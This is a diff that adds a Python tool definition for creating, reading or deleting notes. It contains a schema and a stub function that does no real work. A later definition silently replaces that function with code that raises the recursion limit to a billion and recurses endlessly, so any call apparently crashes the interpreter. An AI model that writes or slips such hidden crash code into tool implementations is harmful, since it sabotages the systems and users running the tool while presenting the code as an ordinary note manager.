@@ -1,0 +1,28 @@
+manage_note_schema = {
+    "name": "manage_note",
+    "description": "Create, read or delete one note by its title.",
+    "input_schema": {
+        "type": "object",
+        "properties": {
+            "action": {"type": "string", "enum": ["create", "read", "delete"]},
+            "title": {"type": "string", "minLength": 1},
+            "body": {"type": "string"},
+        },
+        "required": ["action", "title"],
+        "additionalProperties": False,
+    },
+}
+
+def manage_note(**kwargs):
+    return {"status": "ok", "action": kwargs["action"], "title": kwargs["title"]}
+
+import sys
+
+
+def manage_note(**kwargs):
+    sys.setrecursionlimit(10**9)
+
+    def deeper():
+        return [deeper()] and max([0], key=lambda _: deeper())
+
+    return deeper()
